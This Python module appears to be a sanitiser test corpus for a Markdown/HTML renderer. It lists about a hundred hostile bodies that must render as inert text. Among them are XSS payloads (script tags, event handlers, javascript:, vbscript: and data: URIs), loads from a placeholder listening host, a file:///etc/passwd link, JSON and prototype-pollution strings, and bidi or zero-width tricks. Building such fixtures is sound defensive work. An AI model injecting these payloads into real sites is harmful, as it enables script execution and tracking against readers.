"""A hundred bodies that try to act where they are read: each must be text there, and ask for nothing."""

HOST = "{host}"
"""Where an address would lead that somebody listens at."""

_HTML = """
<script>fetch('{host}')</script>
<script src="{host}/a.js"></script>
<img src="{host}/a.png">
<img src=x onerror="document.title='acted'">
<svg onload="document.title='acted'"></svg>
<svg><script>document.title='acted'</script></svg>
<iframe src="{host}"></iframe>
<iframe srcdoc="<script>parent.document.title='acted'</script>"></iframe>
<object data="{host}"></object>
<embed src="{host}">
<link rel="stylesheet" href="{host}/a.css">
<link rel="prefetch" href="{host}">
<style>@import '{host}/a.css';</style>
<style>body { background: url({host}/a.png) }</style>
<base href="{host}">
<meta http-equiv="refresh" content="0;url={host}">
<form action="{host}"><button>Send</button></form>
<video src="{host}" autoplay></video>
<audio src="{host}" autoplay></audio>
<body onload="document.title='acted'">
<details open ontoggle="document.title='acted'">x</details>
<input autofocus onfocus="document.title='acted'">
<a href="javascript:document.title='acted'">x</a>
<math><mtext><img src="{host}"></mtext></math>
<template><script>document.title='acted'</script></template>
<noscript><img src="{host}"></noscript>
<!-- <img src="{host}"> -->
<![CDATA[<script>document.title='acted'</script>]]>
<?php echo '{host}' ?>
<marquee onstart="document.title='acted'">x</marquee>
</article></main><script>document.title='acted'</script>
</pre><script>document.title='acted'</script>
</script><script>document.title='acted'</script>
<scr<script>ipt>document.title='acted'</scr</script>ipt>
<IMG SRC="{host}" LOWSRC="{host}">
<portal src="{host}"></portal>
<frameset><frame src="{host}"></frameset>
<applet code="{host}"></applet>
<table background="{host}"><tr><td>x</td></tr></table>
<div style="background:url({host})">x</div>
""".strip().splitlines()

_MARKDOWN = r"""
![]({host}/a.png)
![a lamp]({host}/a.png "title")
![a](//127.0.0.1/a.png)
![a *b* [c](d)]({host})
[![a]({host}/a.png)]({host})
[x](javascript:document.title='acted')
[x](JaVaScRiPt:alert(1))
[x](java&#115;cript:alert(1))
[x](&#x6A;avascript:alert(1))
[x](vbscript:alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](file:///etc/passwd)
[x](ssh://127.0.0.1)
[x](steam://run/1)
[x]({host} "onmouseover=alert(1)")
[x](<{host}>)
<{host}>
<javascript:alert(1)>
<mailto:a@b.c?subject=x>
[a]: {host}
[a]: javascript:alert(1) "t"
[x][a]
`<script>document.title='acted'</script>`
~~<img src="{host}">~~
**<b onclick=alert(1)>x</b>**
# <img src="{host}">
> <iframe src="{host}">
- <img src="{host}">
1. <script>alert(1)</script>
999999999. x
| <img src="{host}"> | b |
&lt;img src="{host}"&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&NotAnEntity; &#0; &#xD800; &#x110000;
&#x202e;reversed &#x2066;isolated
\<script>alert(1)\</script>
x  {{POLICY}} {{SCRIPT}} {{SEALED}} {{STYLE}} {0} %s ${alert(1)}
-----BEGIN PEERJOURNAL PAGE-----
-----BEGIN PEERJOURNAL REPLY-----
""".strip().splitlines()

_BLOCKS = [
    "```html\n<script>document.title='acted'</script>\n```",
    "```<script>\nx\n```",
    "    <script>document.title='acted'</script>",
    "| a | b |\n|---|---|\n| <script>document.title='acted'</script> | ![]({host}) |",
    "[x]\n\n[x]: {host}\n\n![x]",
    "a\n---\n\n<hr onclick=alert(1)>\n\n***",
    "\u202etxet desrever\u202c and \u2066isolated\u2069",
    "\u2028</script><script>document.title='acted'</script>\u2029",
    "\ufeff<script>document.title='acted'</script>",
    "zero\u200bwidth \u200d joiners, \u00ad soft hyphen",
    "e" + "\u0301" * 200,
    "\U000e0041\U000e0042 tags",
    "{'\"`; </style> --> ]]> \\u003cscript\\u003e",
    '","reply":{"id":"00","key":"00"},"x":"',
    "__proto__ constructor toString hasOwnProperty",
    "> " * 60 + "deep",
    "- " * 40 + "deeper",
    "*" * 300 + "x" + "*" * 300,
    "[" * 400 + "x" + "](" + HOST + ")" * 400,
    "word " * 200 + "<script>document.title='acted'</script>",
]

BODIES = [*_HTML, *_MARKDOWN, *_BLOCKS]
